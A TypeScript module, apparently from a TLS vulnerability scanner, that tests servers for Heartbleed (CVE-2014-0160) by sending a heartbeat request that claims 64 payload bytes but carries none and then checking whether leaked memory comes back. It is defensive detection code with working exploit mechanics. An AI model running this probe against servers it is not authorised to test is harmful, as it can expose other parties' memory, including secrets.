import { randomBytes } from 'node:crypto';
import { alertName } from './alert.js';
import { ByteReader } from './byte-reader.js';
import type { ClientHelloOffer } from './client-hello.js';
import type { Limits, Target } from './connect.js';
import { endingOf } from './ending.js';
import { EXTENSION_TYPE } from './extension.js';
import { type FaultTrial, notSeen, SILENCE_MS, seen, talkOver, within } from './fault-trial.js';
import { openHandshake12 } from './opening-12.js';
import { CONTENT_TYPE } from './record.js';
import type { RecordLayer } from './record-layer.js';
import { concat, uint8, uint16 } from './vector.js';

/** Tries for Heartbleed, CVE-2014-0160: a heartbeat in the midst of the handshake that claims a payload and has none. A server
 *  with the fault answers with as much of its memory; 64 octets are asked for, as the proof needs no more. A heartbeat that is
 *  right goes after it, so that a server without the fault need not be waited for. */
export function heartbleed(
  target: Target,
  offer: ClientHelloOffer,
  limits: Partial<Limits> = {},
): Promise<FaultTrial> {
  const extensions = [...(offer.extensions ?? []), { type: EXTENSION_TYPE.heartbeat, data: PEER_MAY_SEND }];
  return talkOver(target, limits, async (layer): Promise<FaultTrial> => {
    const { flight, recordVersion } = await openHandshake12(layer, { ...offer, extensions });
    if (flight.extensions?.heartbeat == null) return notSeen('the server does not agree to heartbeats');
    const payload = randomBytes(PAYLOAD_BYTES);
    layer.send(CONTENT_TYPE.heartbeat, request(CLAIMED_BYTES, new Uint8Array()), recordVersion);
    layer.send(
      CONTENT_TYPE.heartbeat,
      request(payload.length, concat(payload, new Uint8Array(PADDING_BYTES))),
      recordVersion,
    );
    const verdict = verdictOf(layer, payload);
    return (await within(verdict, SILENCE_MS)) ?? notSeen('no answer to a heartbeat without its payload');
  });
}

async function verdictOf(layer: RecordLayer, payload: Uint8Array): Promise<FaultTrial> {
  try {
    for (;;) {
      const incoming = await layer.next();
      if (incoming.kind !== 'heartbeat') continue;
      const answer = readResponse(incoming.bytes);
      if (Buffer.compare(answer, payload) === 0)
        return notSeen('answers a heartbeat, but none that lacks its payload');
      if (answer.length > 0)
        return seen(`${answer.length} octets of memory came for a heartbeat that had no payload`);
    }
  } catch (error) {
    const ended = endingOf(error);
    if (ended.kind === 'alert')
      return notSeen(`a heartbeat without its payload is answered by the alert ${alertName(ended.alert)}`);
    if (ended.kind === 'eof' || ended.kind === 'reset')
      return notSeen('a heartbeat without its payload ends the connection');
    return { kind: 'untold', ended };
  }
}

/** HeartbeatMessage, RFC 6520 §4. */
function request(payloadLength: number, payloadAndPadding: Uint8Array): Uint8Array {
  return concat(uint8(HEARTBEAT_REQUEST), uint16(payloadLength), payloadAndPadding);
}

/** The payload of a response, of which the first record may hold but a part; empty for anything else. */
function readResponse(message: Uint8Array): Uint8Array {
  const reader = new ByteReader(message, 'heartbeat');
  if (reader.uint8() !== HEARTBEAT_RESPONSE) return new Uint8Array();
  const length = reader.uint16();
  return reader.bytes(Math.min(length, reader.remaining));
}

/** HeartbeatMode peer_allowed_to_send, RFC 6520 §2. */
const PEER_MAY_SEND = Uint8Array.of(1);
const HEARTBEAT_REQUEST = 1;
const HEARTBEAT_RESPONSE = 2;
const CLAIMED_BYTES = 64;
const PAYLOAD_BYTES = 16;
/** The least that RFC 6520 §4 asks for. */
const PADDING_BYTES = 16;
